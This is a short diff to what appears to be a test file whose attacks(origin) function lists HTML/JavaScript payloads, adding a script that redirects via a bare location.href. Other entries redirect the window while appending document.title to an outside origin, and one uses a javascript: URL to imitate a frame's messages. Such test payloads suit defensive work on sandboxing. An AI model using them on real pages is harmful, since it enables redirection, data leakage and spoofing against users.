@@ -46,6 +46,8 @@ def attacks(origin: str) -> dict[str, str]:
         ),
         "window_location": f"<script>window.location = {q(origin + '/window-location?')} + document.title</script>",
         "document_location": f"<script>document.location.href = {q(origin + '/document-location')}</script>",
+        # The bare `location` page scripts see is the widget's: another host waits for the user.
+        "bare_location": f"<script>location.href = {q(origin + '/bare-location')}</script>",
         # A javascript: URL replaces the frame's document with one that imitates the frame's messages.
         "javascript_url": script(f"window.location = {q('javascript:' + q(script(IMITATE)))}"),
         "links": (
